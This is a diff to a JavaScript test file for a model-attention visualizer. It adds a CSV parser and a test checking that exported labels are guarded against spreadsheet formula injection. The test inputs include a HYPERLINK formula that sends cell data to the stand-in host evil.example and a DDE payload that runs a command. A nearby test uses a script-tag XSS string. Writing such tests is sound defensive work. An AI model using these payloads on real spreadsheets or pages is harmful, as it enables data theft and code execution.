@@ -64,6 +64,53 @@ test('CSV quotes labels with commas and quotes', () => {
   assert.ok(csv.split('\r\n')[0].includes(',"a,""b""",'));
 });
 
+/** RFC 4180 parse (quoted fields, "" inside quotes), for checking cells exactly. */
+function parseCSV(text) {
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let q = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (q) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') q = false; else cell += c;
+    } else if (c === '"') q = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
+  }
+  if (cell || row.length) { row.push(cell); rows.push(row); }
+  return rows;
+}
+
+test('CSV formula injection: text cells starting =, +, -, @, TAB or CR get a leading quote; numbers stay numbers', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-5', '-', '\tx', '\r=1+1', '=1,2', 'plain', '-0.5'];
+  const tokens = fx.tokens.map((t, i) => (i >= 1 && i <= hostile.length ? hostile[i - 1] : t));
+  const r = { ...run, tokens };
+  // Negative values in the numbers: a norm-like run with every value negated.
+  const neg = { ...r, attn: r.attn.map((a) => a.map((v) => -v)) };
+  const rows = parseCSV(toCSV(shownMatrices(neg, base)));
+  const header = rows[0];
+  assert.equal(header[0], 'layer 0 head 5 attention');
+  for (let k = 0; k < hostile.length; k++) {
+    const want = /^[=+\-@\t\r]/.test(hostile[k]) ? `'${hostile[k]}` : hostile[k];
+    assert.equal(header[1 + k + 1], want, `column label ${JSON.stringify(hostile[k])}`);
+    assert.equal(rows[1 + k + 1][0], want, `row label ${JSON.stringify(hostile[k])}`);
+  }
+  // No text cell a spreadsheet would run: every cell starting with one of
+  // the trigger characters is a number.
+  for (const row of rows.filter((x) => x.length > 1)) {
+    for (const [j, cell] of row.entries()) {
+      if (/^[=+\-@\t\r]/.test(cell)) assert.ok(j > 0 && Number.isFinite(Number(cell)), `cell ${JSON.stringify(cell)} would run as a formula`);
+    }
+  }
+  // Values are written as plain numbers, minus sign and all.
+  const v = rows[1][1];
+  assert.match(v, /^-\d/);
+  assert.ok(Math.abs(Number(v) + fx.attentions[0][(5 * T) * T]) <= 1e-5, v);
+  // The neuron view's row label (the query token) too.
+  const n = parseCSV(toCSV(shownMatrices(r, { ...base, view: 'neuron', layer: 1, head: 4, query: 1 })));
+  assert.equal(n[1][0], `'${hostile[0]}`);
+});
+
 test('standalone HTML carries the snapshot in an inert JSON script; user text cannot close it', () => {
   const tpl = '<!doctype html><html><head><title>bertlens</title></head><body></body></html>';
   const page = standaloneHtml(tpl, 'AbC-_0', 'bertlens heatmap: </script><script>alert(1)</script>', 'https://example.org/?text=%3C/script%3E');
